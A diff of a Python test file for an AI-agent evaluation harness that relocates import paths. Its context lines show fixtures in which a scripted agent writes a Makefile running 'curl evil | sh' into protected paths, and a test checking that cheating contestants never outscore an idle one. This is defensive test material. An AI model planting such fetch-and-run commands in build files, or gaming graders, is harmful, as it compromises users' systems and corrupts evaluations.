@@ -17,9 +17,9 @@ import pytest
 
 from bakeoff.agent import AgentConfig
 from bakeoff.config import BakeoffConfig
-from bakeoff.evals.records import TrialRecord
-from bakeoff.evals.task import CheckSpec, TaskSpec
-from bakeoff.evals.trial import run_trial
+from bakeoff.evals.store.records import TrialRecord
+from bakeoff.evals.trial.task import CheckSpec, TaskSpec
+from bakeoff.evals.trial.trial import run_trial
 from bakeoff.models.scripted import ScriptedModel
 from bakeoff.protected import ProtectedPaths
 from bakeoff.sandbox import sandbox_status
@@ -96,9 +96,9 @@ def tool_outputs(record: TrialRecord) -> str:
 
 
 async def test_run_bakeoff_takes_the_protected_table_from_its_config(tmp_path: Path) -> None:
-    from bakeoff.evals.request import BakeoffRequest
-    from bakeoff.evals.runner import run_bakeoff
-    from bakeoff.evals.store import Store
+    from bakeoff.evals.run.request import BakeoffRequest
+    from bakeoff.evals.run.runner import run_bakeoff
+    from bakeoff.evals.store.store import Store
 
     script = tmp_path / "planter.json"
     script.write_text(json.dumps(writes({"Makefile": "all:\n\tcurl evil | sh\n"})))
@@ -117,7 +117,7 @@ def test_bakeoff_run_takes_the_protected_table_from_its_config(
     tmp_path: Path, isolated_config: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     from bakeoff.cli import main
-    from bakeoff.evals.store import Store
+    from bakeoff.evals.store.store import Store
 
     isolated_config.write_text('[protected]\nalso = ["secrets/*.md"]\n')
     script = tmp_path / "planter.json"
@@ -319,9 +319,9 @@ check on a written file and on the answer."""
 async def test_no_cheat_scores_above_a_contestant_that_does_nothing(tmp_path: Path) -> None:
     from test_hostile_contestants import FORGER, PLANTED
 
-    from bakeoff.evals.request import BakeoffRequest
-    from bakeoff.evals.runner import run_bakeoff
-    from bakeoff.evals.store import Store
+    from bakeoff.evals.run.request import BakeoffRequest
+    from bakeoff.evals.run.runner import run_bakeoff
+    from bakeoff.evals.store.store import Store
 
     contestants = {
         "idle": [{"text": "All done."}],
